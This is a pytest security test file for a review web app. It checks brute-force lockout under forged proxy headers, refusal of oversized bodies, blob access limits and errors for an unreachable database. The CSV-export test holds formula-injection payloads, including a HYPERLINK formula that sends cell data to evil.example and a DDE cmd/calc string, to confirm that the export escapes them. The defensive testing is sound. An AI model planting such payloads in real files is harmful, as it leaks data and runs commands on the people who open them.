"""Probing the review app as an attacker would: password guessing, forged proxy headers, huge bodies, formula
injection in exports, blobs outside the reviewed version, an unreachable database.

The guessing and body tests run against the real server process (uvicorn, as ``trajforge review serve`` starts
it): the races and proxy-header handling they check live in the server, not in the app object.
"""

from __future__ import annotations

import csv
import json
import re
import socket
import subprocess
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlsplit

import httpx
import pytest
import review_server
import test_review_support as rs
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from review.app import ReviewConfig, create_app
from review.auth import add_annotator
from review.db import make_engine
from review.export import export_labels
from review.labels import add_label
from schemas import BlobStore
from tests import servers

CSRF_RE = re.compile(r'name="csrf_token" value="([0-9a-f]{64})"')
PASSWORD = "alice-password-1"


@pytest.fixture
def app_env(tmp_path):
    version = rs.build_version(tmp_path / "dataset", n_traj=2, n_steps=2, embed=False)
    engine = make_engine(f"sqlite:///{tmp_path / 'labels.sqlite'}")
    with Session(engine) as db:
        add_annotator(db, "alice", PASSWORD)
    app = create_app(ReviewConfig(data_dir=version, overlap=0.0, max_body_bytes=64 * 1024), engine)
    yield app, engine, version
    engine.dispose()


@pytest.fixture
def live(tmp_path, server_log_dir):
    version = rs.build_version(tmp_path / "dataset", n_traj=2, n_steps=2)
    db_url = f"sqlite:///{tmp_path / 'labels.sqlite'}"
    review_server.add_user(db_url, "alice", PASSWORD)
    with review_server.serve(version, db_url, server_log_dir, "--max-body-kb", "64") as url:
        yield url


def login_form(client: httpx.Client) -> str:
    return CSRF_RE.search(client.get("/login").text).group(1)


@pytest.mark.server
def test_forty_parallel_guesses_check_at_most_five_passwords(live):
    """Each guess comes from its own connection with its own forged X-Forwarded-For, all at once."""
    clients = [httpx.Client(base_url=live, timeout=120) for _ in range(40)]
    tokens = [login_form(c) for c in clients]
    barrier = threading.Barrier(len(clients))

    def guess(i: int) -> int:
        barrier.wait()
        return clients[i].post("/login", data={"username": "alice", "password": f"guess-{i}",
                                               "csrf_token": tokens[i]},
                               headers={"X-Forwarded-For": f"10.9.{i}.1"}, follow_redirects=False).status_code

    try:
        with ThreadPoolExecutor(len(clients)) as pool:
            codes = list(pool.map(guess, range(len(clients))))
        assert set(codes) <= {401, 429}, codes
        assert codes.count(401) <= 5, codes  # at most five passwords were checked
        assert codes.count(429) >= 35
        # The pause holds for the right password too (a guess during it learns nothing).
        c = clients[0]
        r = c.post("/login", data={"username": "alice", "password": PASSWORD, "csrf_token": login_form(c)},
                   follow_redirects=False)
        assert r.status_code == 429 and int(r.headers["retry-after"]) > 0
    finally:
        for c in clients:
            c.close()


@pytest.mark.server
def test_forwarded_for_is_believed_only_from_a_configured_proxy(tmp_path, server_log_dir):
    version = rs.build_version(tmp_path / "dataset", n_traj=1, n_steps=1)
    db_url = f"sqlite:///{tmp_path / 'labels.sqlite'}"
    review_server.add_user(db_url, "alice", PASSWORD)

    def statuses(url: str) -> list[int]:
        with httpx.Client(base_url=url, timeout=120) as c:
            return [c.post("/login", data={"username": "alice", "password": f"nope-{i}", "csrf_token": login_form(c)},
                           headers={"X-Forwarded-For": f"10.1.{i}.7"}, follow_redirects=False).status_code
                    for i in range(7)]

    with review_server.serve(version, db_url, server_log_dir, name="review-noproxy") as url:
        assert statuses(url) == [401] * 5 + [429] * 2  # forged addresses change nothing
    with review_server.serve(version, db_url, server_log_dir, "--trusted-proxy", servers.LOOPBACK,
                             name="review-proxy") as url:
        # Behind a trusted proxy each client is its own address: one client's failures pause only that client.
        assert statuses(url) == [401] * 7


@pytest.mark.server
def test_a_huge_body_is_refused_before_it_is_read(live):
    host, port = urlsplit(live).hostname, urlsplit(live).port

    def raw(headers: str, body: bytes) -> str:
        with socket.create_connection((host, port), timeout=60) as s:
            s.sendall(headers.encode() + b"\r\n" + body)
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
            return data.decode("latin-1")

    announced = 150 * 1024 * 1024  # 150 MB announced; only 64 KiB ever sent
    base = (f"POST /labels HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: {announced}\r\n")
    assert raw(base + "Cookie: tf_session=forged\r\n", b"a" * 65536).startswith("HTTP/1.1 413")
    assert raw(base, b"a" * 65536).startswith("HTTP/1.1 413")  # with no session at all, the same
    small = (f"POST /labels HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
             "Content-Length: 14\r\n")
    assert raw(small, b"verdict=accept").startswith("HTTP/1.1 401")  # a small one without a session
    # A chunked body announces nothing. With a forged session it is refused unread (401); with a real one
    # the route reads it, and it is cut off once it passes the limit.
    chunk = b"a" * 16384
    chunks = (b"%x\r\n" % len(chunk) + chunk + b"\r\n") * 8 + b"0\r\n\r\n"
    head = (f"POST /labels HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            "Transfer-Encoding: chunked\r\n")
    assert raw(head + "Cookie: tf_session=forged\r\n", chunks).startswith("HTTP/1.1 401")
    with httpx.Client(base_url=live, timeout=60) as c:
        r = c.post("/login", data={"username": "alice", "password": PASSWORD, "csrf_token": login_form(c)},
                   follow_redirects=False)
        assert r.status_code == 303
        cookie = c.cookies.get("tf_session")
    assert cookie
    assert raw(head + f"Cookie: tf_session={cookie}\r\n", chunks).startswith("HTTP/1.1 413")
    assert httpx.get(live + "/healthz").text == "ok"  # and the server is fine


def test_body_limit_and_session_check_come_before_parsing(app_env):
    app, _, _version = app_env
    client = TestClient(app, base_url="http://review.test")
    big = b"comment=" + b"x" * (128 * 1024)
    assert client.post("/labels", content=big, cookies={"tf_session": "forged"},
                       headers={"content-type": "application/x-www-form-urlencoded"}).status_code == 413
    assert client.post("/labels", content=b"verdict=accept",
                       headers={"content-type": "application/x-www-form-urlencoded"}).status_code == 401
    assert client.post("/login", content=big,
                       headers={"content-type": "application/x-www-form-urlencoded"}).status_code == 413


def test_only_the_reviewed_versions_screenshots_are_served(app_env, tmp_path):
    app, _, version = app_env
    store = BlobStore(version.parent / "blobs")
    foreign = store.put(b"\x89PNG\r\n\x1a\n not a screenshot of this version")
    client = TestClient(app, base_url="http://review.test")
    token = login_form(client)
    client.post("/login", data={"username": "alice", "password": PASSWORD, "csrf_token": token})
    ds = app.state.review.ds
    shown = next(iter(ds.refs.values())).screenshot_sha256
    assert client.get(f"/screenshots/{shown}.png").status_code == 200  # from the blob store (not embedded)
    assert store.get(foreign)  # the blob exists in the store …
    assert client.get(f"/screenshots/{foreign}.png").status_code == 404  # … but belongs to no sample here


def test_csv_export_escapes_formulas(tmp_path):
    engine = make_engine(f"sqlite:///{tmp_path / 'labels.sqlite'}")
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
               "-2+3", "\tTAB", "\uff1dHYPERLINK(1)"]
    with Session(engine) as db:
        alice = add_annotator(db, "alice", PASSWORD)
        for i, text in enumerate(hostile):
            add_label(db, annotator_id=alice.id, sample_id=f"s{i}", content_hash="h", verdict="edit",
                      instruction=text, comment=text)
    export_labels(engine, tmp_path / "labels.csv")
    export_labels(engine, tmp_path / "labels.jsonl")
    with (tmp_path / "labels.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["instruction"] for r in rows] == ["'" + t for t in hostile]
    assert [r["comment"] for r in rows] == ["'" + t for t in hostile]
    assert all(not r[k].startswith(("=", "+", "-", "@", "\t")) for r in rows for k in r)
    # JSON Lines keeps the text exactly: it is for programs, not spreadsheets.
    exact = [json.loads(line)["instruction"] for line in (tmp_path / "labels.jsonl").read_text().splitlines()]
    assert exact == hostile
    engine.dispose()


def test_an_unreachable_database_is_one_clear_line(tmp_path):
    port = servers.free_port()  # nothing listens there
    url = f"postgresql://reviewer:s3cret@{servers.LOOPBACK}:{port}/labels"
    version = rs.build_version(tmp_path / "dataset", n_traj=1, n_steps=1)
    for argv in (["serve", "--data", str(version)], ["user", "list"], ["export-labels", "--out",
                 str(tmp_path / "x.jsonl")], ["apply-labels", "--data", str(version)]):
        done = subprocess.run([sys.executable, "-m", "pipelines.cli", "review", *argv, "--db", url],
                              capture_output=True, text=True, timeout=120)
        out = (done.stdout + done.stderr).strip()
        assert done.returncode == 2, out
        assert len(out.splitlines()) == 1 and "Traceback" not in out, out
        assert out.startswith("error: cannot open the label database") and f":{port}/labels" in out, out
        assert "s3cret" not in out  # the password is never printed
